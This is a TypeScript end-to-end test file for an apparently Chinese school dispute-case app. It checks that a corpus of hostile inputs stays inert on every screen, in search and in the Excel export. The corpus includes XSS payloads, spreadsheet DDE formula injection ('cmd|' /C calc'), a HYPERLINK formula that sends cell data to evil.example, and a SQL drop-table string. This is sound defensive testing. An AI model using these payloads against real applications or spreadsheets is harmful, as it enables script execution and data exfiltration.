/** Texts that want to be code, formulas or trickery stay texts: on every screen that shows them, under the shipped policy, and in the file. */
import { join } from 'node:path';
import type { BrowserContext } from 'playwright-core';
import readXlsx from 'read-excel-file/node';
import { beforeAll, describe, expect, it } from 'vitest';
import { cellText } from '@/export/cell-text';
import { Person } from '../support/scenario';
import { schoolDay } from '../support/school-day';

const day = schoolDay();
const RAN = 'window.__ran=(window.__ran||0)+1';

const CORPUS: readonly string[] = [
  `<script>${RAN}</script>`,
  `<img src=x onerror="${RAN}">`,
  `<svg/onload=${RAN}>`,
  `"><iframe srcdoc="<script>parent.${RAN.slice(7)}</script>">`,
  `<a href="javascript:${RAN}">点这里</a>`,
  `{{constructor.constructor('${RAN}')()}}`,
  `\${${RAN}} #{${RAN}} <%= ${RAN} %>`,
  `]]><!--<style>@import'javascript:${RAN}'</style>`,
  `=HYPERLINK("http://evil.example/?"&A1,"看这里")`,
  `=cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '；=1+1；\t=1+1',
  '名字\u202e明小\u202c调转方向',
  '\u2066隔离\u2069\u200b零宽',
  '𠮷野家门口，👨‍👩‍👧 三人争执',
  `'; drop table public.case; --`,
  '__proto__',
  'constructor',
  '_x0041_',
  '2026-02-31',
  '0012345678901234567890',
];
const factsOf = (text: string, index: number): string => `${text} 第${index}件`;

interface Watch { dialogs: string[]; blocked: string[]; asked: string[] }
/** Whatever a page tries to run, to open or to fetch from elsewhere. */
async function watched(context: BrowserContext): Promise<Watch> {
  const seen: Watch = { dialogs: [], blocked: [], asked: [] };
  await context.exposeFunction('__blocked', (what: string) => void seen.blocked.push(what));
  await context.addInitScript(`document.addEventListener('securitypolicyviolation', (event) => window.__blocked(event.violatedDirective + ' ' + event.blockedURI + ' ' + event.sample))`);
  context.on('page', (page) => {
    page.on('dialog', (dialog) => {
      seen.dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('request', (request) => {
      if (/^https?:/.test(request.url()) && !request.url().startsWith(day.server.url)) seen.asked.push(request.url());
    });
  });
  return seen;
}
async function nothingRan({ page }: Person, seen: Watch): Promise<void> {
  expect(await page.evaluate('window.__ran ?? 0')).toBe(0);
  expect(seen).toEqual({ dialogs: [], blocked: [], asked: [] });
  expect(await page.locator('main :is(script, iframe, object, embed, img[src="x"], [onerror], [onload], a[href^="javascript"])').count()).toBe(0);
}
/** What the page says, line ends and runs of blanks aside. */
const said = async ({ page }: Person): Promise<string> => ((await page.locator('main').textContent()) ?? '').replace(/\s+/g, ' ');
const oneLine = (text: string): string => text.replace(/\s+/g, ' ').trim();

describe('a corpus that came in through the real endpoint', () => {
  const ids: string[] = [];

  beforeAll(async () => {
    const ask = async (path: string, token: string | null, body: object): Promise<unknown> =>
      (await fetch(`${day.server.url}${path}`, { method: 'POST', headers: { apikey: day.server.keys?.publishableKey ?? '', 'Content-Type': 'application/json', ...(token ? { Authorization: `Bearer ${token}` } : {}) }, body: JSON.stringify(body) })).json();
    const me = (await ask('/auth/v1/token?grant_type=password', null, { email: 'zhanglaoshi@account.zhiwei.example', password: day.server.account('zhanglaoshi').password })) as { access_token: string };
    const [school] = await day.rows(`select s.id, c.id as category, u.id as unit from public.school s, public.category c, public.unit u where c.name = '同学争执' and u.name = '三年级2班'`);
    let n = 0;
    for (const [index, text] of CORPUS.entries()) {
      const [folder, id, at] = [crypto.randomUUID(), crypto.randomUUID(), new Date().toISOString()];
      const create = (tbl: string, of: string, data: object) => ({ mid: crypto.randomUUID(), n: (n += 1), at, sv: 1, folder, tbl, id: of, k: 'create', data });
      const answer = (await ask('/rest/v1/rpc/sync_push', me.access_token, { p_device: crypto.randomUUID(), p_ops: [
        create('folder', folder, { school_id: school?.['id'], kind: 'case', restricted: false, unit_id: school?.['unit'] }),
        create('case', id, { kind: 'dispute', category_id: school?.['category'], unit_id: school?.['unit'], facts: factsOf(text, index), occurred_at: at, place: [...text].slice(0, 100).join(''), urgency: 'normal', settled_on_spot: false, spot_action: '', registered_at: at }),
        create('case_event', crypto.randomUUID(), { case_id: id, step: 'register', note: '', at }),
        create('case_party', crypto.randomUUID(), { case_id: id, name: [...text].slice(0, 50).join('') }),
        create('case_event', crypto.randomUUID(), { case_id: id, step: 'mediate', note: text, at }),
      ] })) as { results: { status: string }[] };
      expect([text, answer.results.map(({ status }) => status)]).toEqual([text, ['applied', 'applied', 'applied', 'applied', 'applied']]);
      ids.push(id);
    }
  }, 120_000);

  it('runs nowhere and reads as it was written: 今日, 事项, the case, the ledger', async () => {
    const phone = await day.device('phone');
    const seenByTeacher = await watched(phone);
    const teacher = await (await Person.at(phone, day.server, 'zhanglaoshi')).signIn();
    await nothingRan(teacher, seenByTeacher);
    await teacher.tab('事项');
    await teacher.page.getByRole('searchbox').fill(`<script>`);
    await teacher.page.getByRole('link', { name: /<script>/ }).waitFor();
    await nothingRan(teacher, seenByTeacher);
    for (const [index, text] of CORPUS.entries()) {
      await teacher.page.goto(`${day.server.url}/cases/${String(ids[index])}`);
      await teacher.page.getByRole('region', { name: '办理进程' }).getByText('调处记录').waitFor();
      const page = await said(teacher);
      expect(page).toContain(oneLine(text)); // as the note
      expect(page).toContain(oneLine(factsOf(text, index)).slice(0, 16)); // in the heading at least
      await nothingRan(teacher, seenByTeacher);
    }

    const office = await day.device('desk');
    const seenByClerk = await watched(office);
    const clerk = await (await Person.at(office, day.server, 'zhouzhuren')).signIn();
    await nothingRan(clerk, seenByClerk);
    await clerk.tab('台账');
    for (const [index, text] of CORPUS.entries()) {
      await clerk.page.getByRole('searchbox').fill(`第${index}件`);
      await expect.poll(() => said(clerk), { timeout: 10_000 }).toContain(oneLine(factsOf(text, index)));
    }
    await nothingRan(clerk, seenByClerk);
    // Looked for as it was written, too.
    for (const text of ['<img src=x', '=HYPERLINK', '__proto__', '𠮷野家']) {
      await clerk.page.getByRole('searchbox').fill('');
      await clerk.page.getByText(/^共 \d\d 条$/).waitFor();
      await clerk.page.getByRole('searchbox').fill(text);
      await clerk.page.getByText('共 1 条').waitFor();
    }

    await clerk.page.getByRole('searchbox').fill('');
    await clerk.page.getByText(/^共 \d\d 条$/).waitFor();
    const [download] = await Promise.all([clerk.page.waitForEvent('download'), clerk.page.getByRole('button', { name: '导出 Excel' }).click()]);
    const file = join(day.folder, 'hostile.xlsx');
    await download.saveAs(file);
    const sheets = await readXlsx(file);
    const cells = sheets.flatMap(({ data }) => data.flat());
    for (const [index, text] of CORPUS.entries()) {
      expect(cells).toContain(cellText(factsOf(text, index)));
      expect(cells.filter((cell) => typeof cell === 'string' && cell.includes(cellText(text))).length).toBeGreaterThan(1); // party or note as well
    }
    await nothingRan(clerk, seenByClerk);
  }, 240_000);
});

it('what a keyboard can never have meant is taken out while it is typed in, and the rest goes up', async () => {
  const phone = await day.device('phone');
  const seen = await watched(phone);
  const teacher = await (await Person.at(phone, day.server, 'lilaoshi')).signIn();
  await teacher.fillCase('', { category: '同学争执', party: `<b onclick="${RAN}">某` });
  // Half a character and a NUL, as some input methods leave behind.
  await teacher.page.getByLabel('简要情况', { exact: true }).evaluate((field) => {
    (field as HTMLTextAreaElement).value = '半个\ud83d字\u0000符，<img src=x onerror="window.__ran=1">';
    field.dispatchEvent(new Event('input', { bubbles: true }));
  });
  await teacher.page.getByLabel('地点', { exact: true }).fill('=1+1');
  await teacher.save();
  await teacher.page.getByRole('region', { name: '办理进程' }).waitFor();
  await teacher.synced();
  await nothingRan(teacher, seen);
  expect(await said(teacher)).toContain('半个\ufffd字符，<img src=x onerror="window.__ran=1">');
  expect(await said(teacher)).toContain(`<b onclick="${RAN}">某`);
  expect(await day.casesWith('半个\ufffd字符，<img src=x onerror="window.__ran=1">')).toBe(1);
  await teacher.tab('今日');
  await nothingRan(teacher, seen);

  // The watch is awake: had a text become markup, the policy would have stopped it and the test would have heard of it.
  await teacher.page.locator('main').evaluate((main) => main.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.__ran=1">'));
  await expect.poll(() => seen.blocked.join()).toMatch(/script-src/);
  expect(await teacher.page.evaluate('window.__ran ?? 0')).toBe(0);
}, 120_000);
